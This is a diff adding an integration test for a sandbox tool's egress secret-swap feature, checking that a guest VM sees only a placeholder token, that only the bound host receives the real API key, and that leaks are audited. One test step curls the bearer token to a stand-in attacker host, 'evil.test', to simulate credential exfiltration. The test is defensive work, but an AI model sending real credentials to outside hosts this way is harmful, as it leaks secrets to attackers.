@@ -35,6 +35,8 @@ const servers: Array<Server | HttpsServer> = [];
 const udpSockets: Socket[] = [];
 /** Requests each server saw: `host url`. */
 const seen = { a: [] as string[], b: [] as string[] };
+/** The Authorization header of each request to `/swap*` paths, per server: `url header`. */
+const authSeen = { a: [] as string[], b: [] as string[] };
 let portA = 0;
 let portB = 0;
 
@@ -96,6 +98,7 @@ function openssl(args: string[]): void {
 function listenHttps(which: "a" | "b", host: string): Promise<number> {
   const s = createHttpsServer({ key: readFileSync(join(certDir, `${which}.key`)), cert: readFileSync(join(certDir, `${which}.pem`)) }, (req, res) => {
     seen[which].push(`${req.headers.host} ${req.url}`);
+    if (req.url?.startsWith("/swap")) authSeen[which].push(`${req.url} ${req.headers.authorization ?? "-"}`);
     res.end(`hello from ${which}: ${req.headers.host} ${req.url}\n`);
   });
   servers.push(s);
@@ -402,5 +405,63 @@ test("egress off: no CA, no env, the image's bundle untouched, TLS straight thro
     await cli("kill", name);
     await cli("delete", name, "--force");
     await cli("delete", "nomed", "--force");
+  }
+});
+
+test("egress swap secrets: curl in the guest sends the placeholder, the bound host receives the real value; an unbound host gets the placeholder unreplaced, audited", { timeout: 900_000 }, async () => {
+  const name = "swap";
+  const value = `sk-live-${execFileSync("openssl", ["rand", "-hex", "24"]).toString().trim()}`;
+  process.env.MA_SWAP_SECRET = value;
+  const created = await cli(
+    "create", name, "--image", imageRef, "--profile", "tiny",
+    "--add-host", `secure.test:${A_IP}`, "--add-host", `evil.test:${EVIL_IP}`,
+    "--dns", `127.0.0.1:${dnsPort}`, "--egress-upstream-ca", caFile,
+    "--secret", "API_TOKEN=env:MA_SWAP_SECRET@secure.test",
+  );
+  assert.equal(created.code, 0, created.stderr);
+  try {
+    const started = await cli("start", name);
+    assert.equal(started.code, 0, started.stdout + started.stderr);
+    // The guest's own view: the variable and the file hold the same per-boot placeholder, never the value.
+    const view = await sh(name, 'echo "$API_TOKEN"; cat /run/secrets/API_TOKEN; echo; stat -c %a /run/secrets/API_TOKEN');
+    assert.equal(view.code, 0, view.stderr);
+    const [envToken, fileToken, mode] = view.stdout.trim().split("\n");
+    assert.ok(envToken && envToken.length >= 16, `a placeholder in the variable: ${view.stdout}`);
+    assert.equal(fileToken, envToken, "the file holds the same placeholder");
+    assert.equal(mode, "400");
+    assert.ok(!view.stdout.includes(value), "the guest never sees the value");
+
+    // Bound host: the mediator swaps the token in the Authorization header of the intercepted request.
+    const ok = await sh(name, `curl -sS --fail -H "Authorization: Bearer $API_TOKEN" https://secure.test:${portA}/swap-bound`);
+    assert.equal(ok.code, 0, ok.stderr);
+    assert.deepEqual(authSeen.a, [`/swap-bound Bearer ${value}`], "the bound server received the real value");
+    // Unbound host: the placeholder travels as is (useless to whoever gets it), and the attempt is audited.
+    const leak = await sh(name, `curl -sS --fail -H "Authorization: Bearer $API_TOKEN" https://evil.test:${portB}/swap-unbound`);
+    assert.equal(leak.code, 0, leak.stderr);
+    assert.deepEqual(authSeen.b, [`/swap-unbound Bearer ${envToken}`], "the unbound server got the placeholder, unreplaced");
+
+    const swapped = await awaitRecord(name, (r) => r.type === "secret_swap", "the swap");
+    assert.deepEqual([(swapped as Rec & { secret?: string }).secret, (swapped as Rec & { header?: string }).header, swapped.name], ["API_TOKEN", "authorization", "secure.test"]);
+    const denied = await awaitRecord(name, (r) => r.type === "secret_swap_denied", "the placeholder sent to an unbound host");
+    assert.deepEqual([(denied as Rec & { secret?: string }).secret, denied.decision], ["API_TOKEN", "deny"]);
+    assert.match(JSON.stringify(denied), /evil\.test/);
+
+    // Neither the value nor the token is in the audit, and the value is nowhere in the state dir.
+    const auditText = (await cli("--json", "egress", name)).stdout;
+    assert.ok(!auditText.includes(value) && !auditText.includes(envToken), "the audit holds neither the value nor the token");
+    const st = await cli("--json", "status", name);
+    assert.ok(!st.stdout.includes(value));
+    const grep = (() => {
+      try {
+        return execFileSync("grep", ["-r", "-l", "-a", "-F", value, fx.stateDir]).toString();
+      } catch (e) {
+        return (e as { status?: number }).status === 1 ? "" : String(e);
+      }
+    })();
+    assert.equal(grep, "", `the value is in: ${grep}`);
+  } finally {
+    delete process.env.MA_SWAP_SECRET;
+    await cli("kill", name);
+    await cli("delete", name, "--force");
   }
 });
